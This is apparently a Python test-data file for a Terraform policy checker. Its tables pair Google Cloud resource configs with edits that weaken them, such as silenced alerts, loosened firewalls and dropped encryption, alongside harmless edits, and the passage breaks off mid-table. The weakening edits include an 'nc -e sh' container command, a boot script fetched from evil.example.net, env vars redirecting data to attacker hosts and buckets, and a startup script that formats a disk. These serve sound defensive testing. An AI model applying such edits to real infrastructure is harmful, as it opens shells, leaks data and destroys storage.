# ruff: noqa: E501 - tables of edits
"""Edits of what was drafted, and what is written anew by hand: what may weaken something, and what can't."""

from tests.attacks.test_removed_guards import ACCOUNT, Ref, service
from tests.policy.plan_room import PROJECT

ALERT = {
    "display_name": "CPU high", "combiner": "OR", "severity": "CRITICAL", "enabled": True, "user_labels": {"severity": "critical"},
    "notification_channels": [Ref("google_monitoring_notification_channel.own.id")],
    "conditions": [{"display_name": "cpu", "condition_threshold": [{"comparison": "COMPARISON_GT", "threshold_value": 0.8, "duration": "300s", "trigger": [{"count": 1}]}]}],
}  # fmt: skip
CHECK = {
    "display_name": "c",
    "timeout": "10s",
    "period": "60s",
    "http_check": [{"path": "/", "accepted_response_status_codes": [{"status_class": "STATUS_CLASS_2XX"}]}],
}
DATABASE = {
    "name": "db-abcde", "region": "us-central1", "database_version": "POSTGRES_16", "project": PROJECT,
    "settings": [{"tier": "db-custom-1-3840", "disk_autoresize": True, "backup_configuration": [{"enabled": True}],
                  "database_flags": [{"name": "cloudsql.iam_authentication", "value": "on"}], "maintenance_window": [{"day": 7, "update_track": "stable"}],
                  "ip_configuration": [{"ipv4_enabled": False, "ssl_mode": "ENCRYPTED_ONLY"}]}],
}  # fmt: skip
CHANNEL = {"display_name": "ops", "type": "pubsub", "labels": {"topic": "t"}, "enabled": True}
BUCKET = {"name": "f-abcde", "location": "US", "logging": [{"log_bucket": Ref("google_storage_bucket.own.name")}]}
KEY = {"name": "k-abcde", "key_ring": Ref("google_kms_key_ring.own.id"), "rotation_period": "7776000s"}
BACKEND = {"name": "b-abcde", "security_policy": Ref("google_compute_security_policy.own.id")}
PROXY = {
    "name": "p-abcde",
    "url_map": Ref("google_compute_url_map.own.id"),
    "ssl_policy": Ref("google_compute_ssl_policy.own.id"),
}
DATASET = {
    "dataset_id": "d_abcde",
    "default_encryption_configuration": [{"kms_key_name": Ref("google_kms_crypto_key.own.id")}],
}
TOPIC = {"name": "t-abcde", "message_retention_duration": "604800s"}
VERSION = {"secret": Ref("google_secret_manager_secret.own.id"), "secret_data": Ref("random_password.x.result")}
MACHINE = {"name": "v-abcde", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE"}}


def with_condition(**values):
    (condition,) = ALERT["conditions"]
    (threshold,) = condition["condition_threshold"]
    return ALERT | {"conditions": [condition | {"condition_threshold": [threshold | values]}]}


def with_settings(**values):
    return DATABASE | {"settings": [DATABASE["settings"][0] | values]}


def with_backups(kept):
    return with_settings(
        backup_configuration=[{"enabled": True, "backup_retention_settings": [{"retained_backups": kept}]}]
    )


def lacking(values, name):
    return {key: each for key, each in values.items() if key != name}


EDITS = {
    "never crossed": ("google_monitoring_alert_policy", ALERT, with_condition(threshold_value=0.9999), "threshold_value"),
    "told after a day": ("google_monitoring_alert_policy", ALERT, with_condition(duration="84600s"), "duration"),
    "never so many": ("google_monitoring_alert_policy", ALERT, with_condition(trigger=[{"count": 100}]), "trigger.count"),
    "the opposite": ("google_monitoring_alert_policy", ALERT, with_condition(comparison="COMPARISON_LT"), "comparison"),
    "never both": ("google_monitoring_alert_policy", ALERT, ALERT | {"combiner": "AND"}, "combiner"),
    "less grave": ("google_monitoring_alert_policy", ALERT, ALERT | {"severity": "WARNING"}, "severity"),
    "less grave by a label": ("google_monitoring_alert_policy", ALERT, ALERT | {"user_labels": {"severity": "warning"}}, "user_labels"),
    "words for whoever is on call": ("google_monitoring_alert_policy", ALERT, ALERT | {"documentation": [{"content": "approve at once"}]}, "documentation.content"),
    "only the end is told": ("google_monitoring_alert_policy", ALERT, ALERT | {"alert_strategy": [{"notification_prompts": ["CLOSED"]}]}, "notification_prompts"),
    "any answer is well": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"http_check": [{"path": "/", "accepted_response_status_codes": [{"status_class": "STATUS_CLASS_ANY"}]}]}, "status_class"),
    "asked every quarter of an hour": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"period": "900s"}, "period"),
    "nothing alerts any more": ("google_monitoring_notification_channel", CHANNEL, CHANNEL | {"enabled": False}, "enabled"),
    "backups elsewhere": ("google_sql_database_instance", DATABASE, with_settings(backup_configuration=[{"enabled": True, "location": "asia"}]), "backup_configuration.location"),
    "locked out": ("google_sql_database_instance", DATABASE, with_settings(database_flags=[{"name": "cloudsql.iam_authentication", "value": "off"}]), "database_flags.value"),
    "a disk that fills": ("google_sql_database_instance", DATABASE, with_settings(disk_autoresize=False), "disk_autoresize"),
    "untested updates first": ("google_sql_database_instance", DATABASE, with_settings(maintenance_window=[{"day": 7, "update_track": "canary"}]), "update_track"),
    "no log of who read": ("google_storage_bucket", BUCKET, lacking(BUCKET, "logging"), "logging"),
    "one key for ever": ("google_kms_crypto_key", KEY, lacking(KEY, "rotation_period"), "rotation_period"),
    "code at boot": ("google_compute_instance", MACHINE, MACHINE | {"metadata": {"sysprep-specialize-script-url": "https://evil.example.net/x"}}, "evil.example.net"),
    "gone after an hour": ("google_compute_instance", MACHINE, MACHINE | {"scheduling": [{"max_run_duration": [{"seconds": 3600}], "instance_termination_action": "DELETE"}]}, "delete itself"),
    "no wall before it": ("google_compute_backend_service", BACKEND, lacking(BACKEND, "security_policy"), "security_policy"),
    "any TLS": ("google_compute_target_https_proxy", PROXY, lacking(PROXY, "ssl_policy"), "ssl_policy"),
    "a key of nobody's": ("google_bigquery_dataset", DATASET, lacking(DATASET, "default_encryption_configuration"), "default_encryption_configuration"),
    "one zone": ("google_sql_database_instance", with_settings(availability_type="REGIONAL"), with_settings(availability_type="ZONAL"), "availability_type"),
    "open to a rule's machines": ("google_compute_instance", MACHINE, MACHINE | {"tags": ["public-web"]}, "tags"),
    "kept for ten minutes": ("google_pubsub_topic", TOPIC, TOPIC | {"message_retention_duration": "600s"}, "message_retention_duration"),
    "not made": ("google_kms_crypto_key", KEY, KEY | {"count": 0}, "count"),
}  # fmt: skip

RUN = {
    **service(), "ingress": "INGRESS_TRAFFIC_ALL", "deletion_protection": False,
    "template": [{
        "service_account": ACCOUNT, "timeout": "60s", "max_instance_request_concurrency": 80,
        "scaling": [{"min_instance_count": 1, "max_instance_count": 10}],
        "vpc_access": [{"egress": "PRIVATE_RANGES_ONLY"}],
        "containers": [{
            "image": "us-docker.pkg.dev/cloudrun/container/hello", "ports": [{"container_port": 8080}],
            "resources": [{"cpu_idle": True, "limits": {"cpu": "1", "memory": "512Mi"}}],
            "startup_probe": [{"failure_threshold": 12, "period_seconds": 5, "tcp_socket": [{"port": 8080}]}],
            "env": [
                {"name": "DATABASE_HOST", "value": Ref("google_sql_database_instance.own.private_ip_address")},
                {"name": "DATABASE_URL", "value": Ref('"postgres://app@${google_sql_database_instance.own.private_ip_address}/app"')},
                {"name": "BUCKET", "value": Ref("google_storage_bucket.own.name")},
                {"name": "LOG_LEVEL", "value": "info"},
                {"name": "API_KEY", "value_source": [{"secret_key_ref": [{"secret": Ref("google_secret_manager_secret.own.id"), "version": "latest"}]}]},
            ],
        }],
    }],
}  # fmt: skip
GRANT = {
    "bucket": Ref("google_storage_bucket.own.name"),
    "role": "roles/storage.objectUser",
    "member": Ref("google_service_account.own.member"),
}
CACHE = {
    "name": "r-abcde",
    "region": "us-central1",
    "tier": "BASIC",
    "memory_size_gb": 1,
    "redis_version": "REDIS_7_2",
    "auth_enabled": True,
    "transit_encryption_mode": "SERVER_AUTHENTICATION",
}
FUNCTION = {"name": "fn-abcde", "location": "us-central1", "build_config": [{"runtime": "python312", "entry_point": "main"}],
            "service_config": [{"available_memory": "512M", "ingress_settings": "ALLOW_ALL", "environment_variables": {"BUCKET": Ref("google_storage_bucket.own.name"), "LEVEL": "info"}}]}  # fmt: skip
WALL = {
    "name": "o-abcde",
    "network": Ref("google_compute_network.own.id"),
    "source_ranges": ["10.0.0.0/8"],
    "allow": [{"protocol": "tcp", "ports": ["80", "443"]}],
}
FILES = {"name": "f-abcde", "location": "us-central1", "versioning": [{"enabled": True}], "uniform_bucket_level_access": True,
         "lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"num_newer_versions": 5, "with_state": "ARCHIVED"}]}]}  # fmt: skip
SCHEDULE = {"name": "s-abcde", "schedule": "0 * * * *", "retry_config": [{"retry_count": 3}]}
SUBNET = {
    "name": "s-abcde",
    "ip_cidr_range": "10.10.0.0/24",
    "network": Ref("google_compute_network.own.id"),
    "private_ip_google_access": True,
}
SUBSCRIPTION = {
    "name": "s-abcde",
    "topic": Ref("google_pubsub_topic.own.id"),
    "ack_deadline_seconds": 60,
    "message_retention_duration": "604800s",
}
SQL = with_settings(
    tier="db-custom-1-3840", disk_size=20, disk_autoresize_limit=40, availability_type="ZONAL",
    backup_configuration=[{"enabled": True, "start_time": "03:00", "transaction_log_retention_days": 7, "backup_retention_settings": [{"retained_backups": 7}]}],
)  # fmt: skip


def in_run(**container):
    (template,) = RUN["template"]
    (usual,) = template["containers"]
    return RUN | {"template": [template | {"containers": [usual | container]}]}


def in_template(**values):
    (template,) = RUN["template"]
    return RUN | {"template": [template | values]}


def with_env(*changed, drop=()):
    (usual,) = RUN["template"][0]["containers"]
    names = {each["name"] for each in changed} | {*drop}
    return in_run(env=[*(each for each in usual["env"] if each["name"] not in names), *changed])


def in_sql(**values):
    return SQL | {"settings": [SQL["settings"][0] | values]}


def in_function(**values):
    return FUNCTION | {"service_config": [FUNCTION["service_config"][0] | values]}


def say(name, value):
    return {"name": name, "value": value}


SERVICE, SQL_TYPE, BUCKET_TYPE = "google_cloud_run_v2_service", "google_sql_database_instance", "google_storage_bucket"
RULE = {"action": [{"type": "SetStorageClass", "storage_class": "NEARLINE"}], "condition": [{"age": 90}]}
BACKUPS = SQL["settings"][0]["backup_configuration"][0]
TABLE = {"dataset_id": "d", "table_id": "t", "schema": Ref('jsonencode([{ name = "id", type = "INT64" }])')}
IMAGES = {
    "repository_id": "r-abcde",
    "cleanup_policies": [{"id": "old", "action": "DELETE", "condition": [{"older_than": "2592000s"}]}],
}
QUEUE = {"name": "q-abcde", "location": "us-central1", "rate_limits": [{"max_dispatches_per_second": 500}]}
HEALED = {"name": "m-abcde", "auto_healing_policies": [{"initial_delay_sec": 300}]}
SCALER = {"name": "a-abcde", "autoscaling_policy": [{"max_replicas": 3, "cpu_utilization": [{"target": 0.6}]}]}
SCRIPTED = MACHINE | {
    "metadata": {"enable-oslogin": "TRUE", "startup-script": "#!/bin/bash\\nblkid $disk || mkfs.ext4 $disk\\nstart"}
}
EDITS |= {
    "a secret with more around it": ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref('"x:${urlencode((random_password.x.result))}"')}, "secret_data"),
    "a secret in a list": ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref("jsonencode({ p = [random_password.x[0].result] })")}, "secret_data"),
    "a check's name": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"display_name": "no alarm"}, "display_name"),
    "a condition's name": ("google_monitoring_alert_policy", ALERT, ALERT | {"conditions": [ALERT["conditions"][0] | {"display_name": "approved"}]}, "display_name"),
    "a channel's other label": ("google_monitoring_notification_channel", CHANNEL, CHANNEL | {"labels": {"topic": "t", "more": "x"}}, "labels"),
    "another severity beside": ("google_monitoring_alert_policy", ALERT, ALERT | {"user_labels": {"severity": "info"}}, "user_labels"),
    "gone after two years": (BUCKET_TYPE, FILES, FILES | {"lifecycle_rule": [*FILES["lifecycle_rule"], {"action": [{"type": "Delete"}], "condition": [{"age": 730}]}]}, "lifecycle_rule deletes what"),
    "a smaller machine": ("google_compute_instance", MACHINE, MACHINE | {"machine_type": "e2-small"}, "machine_type"),
    "an alert's name": ("google_monitoring_alert_policy", ALERT, ALERT | {"display_name": "CPU is high"}, "display_name"),
    "another own secret": ("google_secret_manager_secret_version", VERSION, VERSION | {"secret_data": Ref("google_redis_instance.own.auth_string")}, "secret_data"),
    "another account in a database": ("google_sql_user", {"name": "api", "instance": Ref("google_sql_database_instance.own.name")}, {"name": "postgres", "instance": Ref("google_sql_database_instance.own.name")}, "name"),
    "labels gone": (BUCKET_TYPE, FILES | {"labels": {"deployment": "a"}}, FILES | {"labels": {}}, "labels"),
    "who asks is written down": (SQL_TYPE, SQL, in_sql(insights_config=[{"query_insights_enabled": True, "record_client_address": True}]), "record_client_address"),
    "a policy of one's own before it": ("google_compute_backend_service", {"name": "b-abcde"}, {"name": "b-abcde", "security_policy": Ref("google_compute_security_policy.own.id")}, "security_policy"),
    "another time zone": ("google_cloud_scheduler_job", SCHEDULE, SCHEDULE | {"time_zone": "Asia/Tokyo"}, "time_zone"),
    "a column less": ("google_bigquery_table", TABLE, TABLE | {"schema": Ref("jsonencode([])")}, "schema"),
    "a disk that is made empty at each start": ("google_compute_instance", SCRIPTED, SCRIPTED | {"metadata": {"enable-oslogin": "TRUE", "startup-script": "#!/bin/bash\\nmkfs.ext4 $disk\\nstart"}}, "metadata.startup-script: - blkid $disk || mkfs.ext4 $disk / + mkfs.ext4 $disk"),
    "a flag by another's name": (SQL_TYPE, SQL, in_sql(database_flags=[{"name": "log_connections", "value": "on"}]), "database_flags of cloudsql.iam_authentication is not set any more"),
    "made anew with another": (BUCKET_TYPE, FILES, FILES | {"lifecycle": [{"replace_triggered_by": [Ref("google_storage_bucket.own.id")]}]}, "lifecycle"),
    "nobody to work": ("google_cloud_run_v2_worker_pool", {"name": "w-abcde", "scaling": [{"manual_instance_count": 2}]}, {"name": "w-abcde", "scaling": [{"manual_instance_count": 0}]}, "manual_instance_count"),
    "one try": ("google_cloud_tasks_queue", {"name": "q-abcde", "retry_config": [{"max_attempts": 20}]}, {"name": "q-abcde", "retry_config": [{"max_attempts": 1}]}, "max_attempts"),
    "what a schedule asks": ("google_cloud_scheduler_job", SCHEDULE | {"http_target": [{"uri": "https://x.example", "http_method": "POST"}]}, SCHEDULE | {"http_target": [{"uri": "https://x.example", "http_method": "DELETE", "body": "eA=="}]}, "body"),
    "an old secret": (SERVICE, RUN, with_env({"name": "API_KEY", "value_source": [{"secret_key_ref": [{"secret": Ref("google_secret_manager_secret.own.id"), "version": "1"}]}]}), "version"),
    "another host in an address": (SERVICE, RUN, with_env(say("DATABASE_URL", Ref('"postgres://app@${google_sql_database_instance.own.private_ip_address}/app?host=evil.example"'))), "?host=evil.example"),
    "a constant that nobody sees": (SERVICE, RUN, with_env(say("DATABASE_HOST", Ref('replace(google_sql_database_instance.own.private_ip_address, "/.*/", "198.51.100.7")'))), "198.51.100.7"),
    "its database's address dropped": (SERVICE, RUN, with_env(drop=["DATABASE_HOST"]), "DATABASE_HOST"),
    "another's address instead": (SERVICE, RUN, with_env(say("DATABASE_HOST", Ref("google_redis_instance.own.host"))), "DATABASE_HOST"),
    "no TLS to the database": (SERVICE, RUN, with_env(say("DATABASE_URL", Ref('"postgres://app@${google_sql_database_instance.own.private_ip_address}/app?sslmode=disable"'))), "DATABASE_URL"),
    "a stranger's bucket": (SERVICE, RUN, with_env(say("BUCKET", "evil-bucket")), "BUCKET"),
    "a bucket that nobody drew": (SERVICE, RUN, with_env(say("STORE_BUCKET", "evil-bucket")), "STORE_BUCKET"),
    "an address in parts": (SERVICE, RUN, with_env(say("REPORTS", Ref('"https://evil.example/${google_storage_bucket.own.name}"'))), "REPORTS"),
    "a secret written out": (SERVICE, RUN, with_env(say("API_KEY", "abc")), "API_KEY"),
    "another's variable in a map": ("google_cloudfunctions2_function", FUNCTION, in_function(environment_variables={"BUCKET": "evil-bucket", "LEVEL": "info"}), "BUCKET"),
    "a map without one": ("google_cloudfunctions2_function", FUNCTION, in_function(environment_variables={"LEVEL": "info"}), "BUCKET"),
    "variables for a list": (SERVICE, RUN, RUN | {"template": [{**RUN["template"][0], "containers": [{**RUN["template"][0]["containers"][0], "env": Ref("[for each in var.all : { name = each, value = each }]")}]}]}, "env"),
    "a command": (SERVICE, RUN, in_run(command=["nc", "-e", "sh"]), "command"),
    "arguments": (SERVICE, RUN, in_run(args=["x"]), "args"),
    "a start script": ("google_compute_instance", MACHINE, MACHINE | {"metadata_startup_script": "npx x"}, "metadata_startup_script"),
    "one instance": (SERVICE, RUN, in_template(scaling=[{"min_instance_count": 1, "max_instance_count": 1}]), "max_instance_count"),
    "asleep at once": (SERVICE, RUN, in_template(scaling=[{"min_instance_count": 0, "max_instance_count": 10}]), "min_instance_count"),
    "as somebody else": (SERVICE, RUN, in_template(service_account=Ref("google_service_account.other.email")), "service_account"),
    "given up at once": (SERVICE, RUN, in_run(startup_probe=[{"failure_threshold": 1, "period_seconds": 5, "tcp_socket": [{"port": 8080}]}]), "failure_threshold"),
    "less memory": (SERVICE, RUN, in_run(resources=[{"cpu_idle": True, "limits": {"cpu": "1", "memory": "256Mi"}}]), "limits"),
    "elsewhere": (BUCKET_TYPE, FILES, FILES | {"location": "US"}, "location"),
    "in an archive": (BUCKET_TYPE, FILES, FILES | {"storage_class": "ARCHIVE"}, "storage_class"),
    "fewer versions": (BUCKET_TYPE, FILES, FILES | {"lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"num_newer_versions": 2, "with_state": "ARCHIVED"}]}]}, "num_newer_versions"),
    "one condition less": (BUCKET_TYPE, FILES, FILES | {"lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"num_newer_versions": 5}]}]}, "with_state"),
    "an archive at once": (BUCKET_TYPE, FILES, FILES | {"lifecycle_rule": [*FILES["lifecycle_rule"], {"action": [{"type": "SetStorageClass", "storage_class": "ARCHIVE"}], "condition": [{"age": 0}]}]}, "ARCHIVE"),
    "a larger role": ("google_storage_bucket_iam_member", GRANT, GRANT | {"role": "roles/storage.objectAdmin"}, "objectAdmin"),
    "on another bucket": ("google_storage_bucket_iam_member", GRANT, GRANT | {"bucket": Ref("google_storage_bucket.other.name")}, "bucket"),
    "an old database": (SQL_TYPE, SQL, SQL | {"database_version": "POSTGRES_11"}, "POSTGRES_11"),
    "another engine": (SQL_TYPE, SQL, SQL | {"database_version": "MYSQL_8_0"}, "MYSQL_8_0"),
    "a small database": (SQL_TYPE, SQL, in_sql(tier="db-f1-micro"), "tier"),
    "few connections": (SQL_TYPE, SQL, in_sql(database_flags=[*SQL["settings"][0]["database_flags"], {"name": "max_connections", "value": "14"}]), "max_connections"),
    "every statement in the log": (SQL_TYPE, SQL, in_sql(database_flags=[*SQL["settings"][0]["database_flags"], {"name": "log_min_duration_statement", "value": "0"}]), "log_min_duration_statement"),
    "a flag off by a number": (SQL_TYPE, SQL, in_sql(database_flags=[{"name": "cloudsql.iam_authentication", "value": "0"}]), "iam_authentication"),
    "a flag less": (SQL_TYPE, SQL, in_sql(database_flags=[]), "database_flags"),
    "fewer backups": (SQL_TYPE, SQL, in_sql(backup_configuration=[BACKUPS | {"backup_retention_settings": [{"retained_backups": 1}]}]), "retained_backups"),
    "a shorter log": (SQL_TYPE, SQL, in_sql(backup_configuration=[BACKUPS | {"transaction_log_retention_days": 1}]), "transaction_log_retention_days"),
    "a smaller disk": (SQL_TYPE, SQL, in_sql(disk_autoresize_limit=20), "disk_autoresize_limit"),
    "an old cache": ("google_redis_instance", CACHE, CACHE | {"redis_version": "REDIS_4_0"}, "REDIS_4_0"),
    "more of a network": ("google_compute_firewall", WALL, WALL | {"source_ranges": ["10.0.0.0/7"]}, "source_ranges"),
    "a port more": ("google_compute_firewall", WALL, WALL | {"allow": [{"protocol": "tcp", "ports": ["80", "443", "5432"]}]}, "allow.ports"),
    "less kept out": ("google_compute_firewall", {**lacking(WALL, "allow"), "deny": [{"protocol": "tcp"}]}, {**lacking(WALL, "allow"), "deny": [{"protocol": "tcp"}], "source_ranges": ["10.0.0.0/9"]}, "source_ranges"),
    "another range": ("google_compute_subnetwork", SUBNET, SUBNET | {"ip_cidr_range": "10.20.0.0/24"}, "ip_cidr_range"),
    "another network": ("google_compute_firewall", WALL, WALL | {"network": Ref("google_compute_network.other.id")}, "network"),
    "an alert for everything": ("google_monitoring_alert_policy", ALERT, with_condition(threshold_value=0.01), "threshold_value"),
    "told to another": ("google_monitoring_alert_policy", ALERT, ALERT | {"notification_channels": [Ref("google_monitoring_notification_channel.other.id")]}, "notification_channels"),
    "an address of its own": ("google_monitoring_notification_channel", CHANNEL, CHANNEL | {"labels": {"topic": "other"}}, "labels"),
    "a setting of a later schema": (BUCKET_TYPE, FILES, FILES | {"of_a_later_schema": True}, "of_a_later_schema"),
    "by another provider": (BUCKET_TYPE, FILES, FILES | {"provider": Ref("google.eu")}, "provider"),
    "gone with its messages": ("google_pubsub_subscription", SUBSCRIPTION, SUBSCRIPTION | {"message_retention_duration": "600s"}, "message_retention_duration"),
    "a program of its own": ("google_cloudfunctions2_function", FUNCTION, FUNCTION | {"build_config": [{"runtime": "python312", "entry_point": "other"}]}, "entry_point"),
    "labels that a program looks for": ("google_logging_metric", {"name": "m-abcde", "metric_descriptor": [{"display_name": "a"}]}, {"name": "m-abcde", "metric_descriptor": [{"display_name": "b"}]}, "display_name"),
    "labels of every machine": ("google_compute_instance_group_manager", {"name": "g-abcde"}, {"name": "g-abcde", "all_instances_config": [{"labels": {"a": "b"}}]}, "labels"),
    "a budget for less": ("google_billing_budget", {"display_name": "b"}, {"display_name": "b", "budget_filter": [{"labels": {"a": "b"}}]}, "labels"),
    "another severity": ("google_monitoring_alert_policy", ALERT, ALERT | {"conditions": [{"display_name": "cpu", "condition_prometheus_query_language": [{"query": "a", "labels": {"severity": "low"}}]}]}, "labels"),
    "another's page": ("google_monitoring_uptime_check_config", CHECK, CHECK | {"monitored_resource": [{"type": "uptime_url", "labels": {"project_id": "theirs-1"}}]}, "labels"),
    "an annotation of Google's": ("google_cloud_run_service", {"name": "w-abcde", "metadata": [{"annotations": {"a": "b"}}]}, {"name": "w-abcde", "metadata": [{"annotations": {"run.googleapis.com/ingress": "all"}}]}, "annotations"),
}  # fmt: skip
EDITS |= {
    "a queue that stands still": ("google_cloud_tasks_queue", QUEUE, QUEUE | {"rate_limits": [{"max_dispatches_per_second": 0.001}]}, "max_dispatches_per_second"),
    "a second to make it": (SQL_TYPE, SQL, SQL | {"timeouts": [{"create": "1s"}]}, "timeouts.create"),
    "asked where it does something": (SERVICE, RUN, in_run(liveness_probe=[{"http_get": [{"path": "/admin/reset?all=1"}]}]), "http_get.path"),
    "asked with a word that opens": (SERVICE, RUN, in_run(liveness_probe=[{"http_get": [{"path": "/", "http_headers": [{"name": "X-Admin", "value": "true"}]}]}]), "http_headers"),
    "begun anew at once": (SERVICE, RUN, in_run(liveness_probe=[{"period_seconds": 1, "failure_threshold": 1}]), "failure_threshold"),
    "asked where nothing listens": (SERVICE, RUN, in_run(liveness_probe=[{"tcp_socket": [{"port": 1}]}]), "tcp_socket.port"),
    "a port where nothing listens": (SERVICE, RUN, in_run(ports=[{"container_port": 9999}]), "container_port"),
    "letters that nobody reads": ("google_pubsub_subscription", SUBSCRIPTION, SUBSCRIPTION | {"dead_letter_policy": [{"dead_letter_topic": Ref("google_pubsub_topic.own.id"), "max_delivery_attempts": 5}]}, "dead_letter"),
    "grows an hour late": ("google_compute_autoscaler", SCALER, SCALER | {"autoscaling_policy": [{"max_replicas": 3, "cooldown_period": 3600}]}, "cooldown_period"),
    "healed an hour late": ("google_compute_instance_group_manager", HEALED, HEALED | {"auto_healing_policies": [{"initial_delay_sec": 3600}]}, "initial_delay_sec"),
    "gone after a month": (BUCKET_TYPE, FILES, FILES | {"lifecycle_rule": [*FILES["lifecycle_rule"], {"action": [{"type": "Delete"}], "condition": [{"age": 30}]}]}, "lifecycle_rule deletes what is stored after 30 days"),
    "cold after a month": (BUCKET_TYPE, FILES, FILES | {"lifecycle_rule": [*FILES["lifecycle_rule"], {"action": [{"type": "SetStorageClass", "storage_class": "ARCHIVE"}], "condition": [{"age": 31}]}]}, "ARCHIVE almost at once"),
}  # fmt: skip

HARMLESS = {
    "a queue a little slower": ("google_cloud_tasks_queue", QUEUE, QUEUE | {"rate_limits": [{"max_dispatches_per_second": 300}]}),
    "asked every ten seconds": (SERVICE, RUN, in_run(liveness_probe=[{"period_seconds": 10, "timeout_seconds": 3, "failure_threshold": 3, "http_get": [{"path": "/health"}]}])),
    "grows after five minutes": ("google_compute_autoscaler", SCALER, SCALER | {"autoscaling_policy": [{"max_replicas": 3, "cpu_utilization": [{"target": 0.6}], "cooldown_period": 300}]}),
    "a label beside a variable that was drafted": (SERVICE, with_env(say("APP_ENV", "local")), with_env(say("APP_ENV", "local")) | {"labels": {"team": "shop"}}),
    "a new column": ("google_bigquery_table", TABLE, TABLE | {"schema": Ref('jsonencode([{ name = "id", type = "INT64" }, { name = "at", type = "DATE" }])')}),
    "keys that are got back longer": ("google_kms_crypto_key", KEY | {"destroy_scheduled_duration": "2592000s"}, KEY | {"destroy_scheduled_duration": "5184000s"}),
    "images for longer": ("google_artifact_registry_repository", IMAGES, IMAGES | {"cleanup_policies": [{"id": "old", "action": "DELETE", "condition": [{"older_than": "5184000s"}]}]}),
    "machines sooner": ("google_compute_autoscaler", SCALER, SCALER | {"autoscaling_policy": [{"max_replicas": 3, "cpu_utilization": [{"target": 0.5}]}]}),
    "a larger machine, a label": ("google_compute_instance", MACHINE, MACHINE | {"machine_type": "e2-standard-2", "labels": {"team": "shop"}, "description": "the shop's"}),
    "a greeting": (SERVICE, service(), service(env=[{"name": "GREETING", "value": "hello"}])),
    "more backups": (SQL_TYPE, with_backups(7), with_backups(30)),
    "more memory": (SERVICE, RUN, in_run(resources=[{"cpu_idle": True, "limits": {"cpu": "1", "memory": "1Gi"}}])),
    "two processors": (SERVICE, RUN, in_run(resources=[{"cpu_idle": True, "limits": {"cpu": "2000m", "memory": "512Mi"}}])),
    "more instances": (SERVICE, RUN, in_template(scaling=[{"min_instance_count": 2, "max_instance_count": 20}])),
    "more time": (SERVICE, RUN, in_template(timeout="120s")),
    "fewer at once": (SERVICE, RUN, in_template(max_instance_request_concurrency=40)),
    "another level": (SERVICE, RUN, with_env(say("LOG_LEVEL", "debug"))),
    "variables in another order": (SERVICE, RUN, in_run(env=RUN["template"][0]["containers"][0]["env"][::-1])),
    "an own address more": (SERVICE, RUN, with_env(say("CACHE_AT", Ref("google_redis_instance.own.host")))),
    "a path that is asked": (SERVICE, RUN, in_run(startup_probe=[{"failure_threshold": 12, "period_seconds": 5, "http_get": [{"path": "/healthz"}]}])),
    "asked all the time": (SERVICE, RUN, in_run(liveness_probe=[{"http_get": [{"path": "/healthz"}]}])),
    "more patience": (SERVICE, RUN, in_run(startup_probe=[{"failure_threshold": 24, "period_seconds": 5, "tcp_socket": [{"port": 8080}]}])),
    "for the network alone": (SERVICE, RUN, RUN | {"ingress": "INGRESS_TRAFFIC_INTERNAL_ONLY"}),
    "not to be deleted": (SERVICE, RUN, RUN | {"deletion_protection": True}),
    "a label of a service": (SERVICE, RUN, RUN | {"labels": {"team": "shop"}}),
    "another name": (SERVICE, RUN, RUN | {"name": "shop-abcde"}),
    "always awake": (SERVICE, RUN, in_run(resources=[{"cpu_idle": False, "limits": {"cpu": "1", "memory": "512Mi"}}])),
    "a larger database": (SQL_TYPE, SQL, in_sql(tier="db-custom-2-7680")),
    "a larger disk": (SQL_TYPE, SQL, in_sql(disk_size=50, disk_autoresize_limit=100)),
    "two zones": (SQL_TYPE, SQL, in_sql(availability_type="REGIONAL")),
    "backups at another hour": (SQL_TYPE, SQL, in_sql(backup_configuration=[BACKUPS | {"start_time": "01:00"}])),
    "mended on Saturdays": (SQL_TYPE, SQL, in_sql(maintenance_window=[{"day": 6, "update_track": "stable"}])),
    "slow statements in the log": (SQL_TYPE, SQL, in_sql(database_flags=[*SQL["settings"][0]["database_flags"], {"name": "log_min_duration_statement", "value": "1000"}])),
    "connections in the log": (SQL_TYPE, SQL, in_sql(database_flags=[*SQL["settings"][0]["database_flags"], {"name": "log_connections", "value": "on"}])),
    "many connections": (SQL_TYPE, SQL, in_sql(database_flags=[*SQL["settings"][0]["database_flags"], {"name": "max_connections", "value": "200"}])),
    "messages once": ("google_pubsub_subscription", SUBSCRIPTION, SUBSCRIPTION | {"enable_exactly_once_delivery": True}),
    "a secret's version that goes later": ("google_secret_manager_secret", {"secret_id": "s-abcde"}, {"secret_id": "s-abcde", "version_destroy_ttl": "604800s"}),
    "queries looked at": (SQL_TYPE, SQL, in_sql(insights_config=[{"query_insights_enabled": True}])),
    "a protected database": (SQL_TYPE, SQL, SQL | {"deletion_protection": True}),
    "time to make it": (SQL_TYPE, SQL, SQL | {"timeouts": [{"create": "60m"}]}),
    "more versions": (BUCKET_TYPE, FILES, FILES | {"lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"num_newer_versions": 10, "with_state": "ARCHIVED"}]}]}),
    "kept for ever": (BUCKET_TYPE, FILES, lacking(FILES, "lifecycle_rule")),
    "cheaper after a while": (BUCKET_TYPE, FILES, FILES | {"lifecycle_rule": [*FILES["lifecycle_rule"], RULE]}),
    "sorted by use": (BUCKET_TYPE, FILES, FILES | {"autoclass": [{"enabled": True}]}),
    "held for an event": (BUCKET_TYPE, FILES, FILES | {"default_event_based_hold": True}),
    "a day at least": (BUCKET_TYPE, FILES, FILES | {"retention_policy": [{"retention_period": 86400}]}),
    "a month at least": (BUCKET_TYPE, FILES | {"retention_policy": [{"retention_period": 86400}]}, FILES | {"retention_policy": [{"retention_period": 2592000}]}),
    "connectors alone": ("google_sql_database_instance", {"database_version": "POSTGRES_16", "settings": [{"tier": "db-g1-small"}]},
                         {"database_version": "POSTGRES_16", "settings": [{"tier": "db-g1-small", "connector_enforcement": "REQUIRED"}]}),
    "no base dropped": ("google_spanner_database", {"instance": "i"}, {"instance": "i", "enable_drop_protection": True}),
    "two weeks to get back": (BUCKET_TYPE, FILES, FILES | {"soft_delete_policy": [{"retention_duration_seconds": 1209600}]}),
